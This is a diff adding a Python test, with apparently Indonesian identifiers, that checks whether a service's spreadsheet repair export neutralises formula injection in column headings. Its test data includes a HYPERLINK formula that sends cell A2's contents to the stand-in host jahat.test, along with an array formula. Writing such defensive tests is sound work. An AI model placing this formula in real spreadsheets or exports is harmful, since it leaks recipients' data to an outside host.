@@ -67,6 +67,20 @@ async def test_nothing_in_the_file_runs_as_a_formula_or_loses_its_digits(kota: S
     assert isi_xlsx(jawab)[1][kepala.index("NAMA")] == "=1+1"
 
 
+async def test_headings_of_a_file_come_back_as_texts_not_as_formulas_or_links(kota: ServiceUnderTest) -> None:
+    judul = ['=HYPERLINK("http://jahat.test/?x="&A2;"klik")', "{=1+1}", "http://jahat.test"]
+    kepala = ["KODE UNIT", "NAMA", "KODE INDUK", "JENIS", "INSTANSI", *judul]
+    isi = "\t".join(kepala) + "\nZ\tZ\tTIADA\tOPD\tZ\t\t\t\n"
+    hasil = await impor(kota, "unit", isi)
+    assert hasil["ditolak"] == 1
+    jawab = await perbaikan(kota, hasil["id"], "xlsx")
+    assert isi_xlsx(jawab)[0][5:8] == judul
+    with zipfile.ZipFile(io.BytesIO(jawab.content)) as buku:
+        lembar = buku.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in lembar
+    assert "hyperlink" not in lembar
+
+
 @pytest.mark.parametrize("bentuk", ["csv", "xlsx"])
 async def test_the_file_sent_back_as_it_is_is_rejected_for_the_same_reasons(
     kota: ServiceUnderTest, bentuk: str
